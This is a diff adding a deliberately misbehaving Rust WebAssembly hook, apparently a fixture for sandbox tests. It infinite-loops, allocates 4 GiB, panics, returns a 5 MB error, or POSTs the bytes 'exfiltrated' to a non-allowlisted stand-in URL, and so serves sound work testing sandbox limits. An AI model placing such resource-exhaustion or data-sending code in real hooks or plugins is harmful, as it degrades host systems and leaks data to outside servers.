@@ -1,0 +1,39 @@
+//! A hook that misbehaves on purpose, for the sandbox tests: on-push does what the first
+//! event's name says: `loop` (never returns), `alloc` (asks for 4 GiB), `trap` (panics),
+//! `huge-error` (returns a 5 MB message), `call-out` (POSTs to `HOSTILE_URL`, which the
+//! operator did not allowlist). Anything else is accepted.
+
+#[cfg(target_arch = "wasm32")]
+mod component {
+    wit_bindgen::generate!({ world: "push-gate", path: "../../wit/hooks" });
+
+    use exports::livestore::hooks::on_push::{Context, Event, Guest};
+
+    struct Hook;
+
+    impl Guest for Hook {
+        fn on_push(_context: Context, batch: Vec<Event>) -> Result<(), String> {
+            match batch.first().map(|e| e.name.as_str()) {
+                Some("loop") => {
+                    let mut x: u64 = 0;
+                    loop {
+                        x = std::hint::black_box(x.wrapping_add(1));
+                    }
+                }
+                Some("alloc") => {
+                    let v: Vec<u8> = vec![1; 4 << 30];
+                    Err(format!("allocated {}", std::hint::black_box(v).len()))
+                }
+                Some("trap") => panic!("hostile hook traps on purpose"),
+                Some("huge-error") => Err("x".repeat(5 << 20)),
+                Some("call-out") => {
+                    let url = livestore::hooks::config::get("HOSTILE_URL").unwrap_or_else(|| "http://example.com/".into());
+                    http_post::post(&url, "text/plain", b"exfiltrated").map(|_| ())
+                }
+                _ => Ok(()),
+            }
+        }
+    }
+
+    export!(Hook);
+}
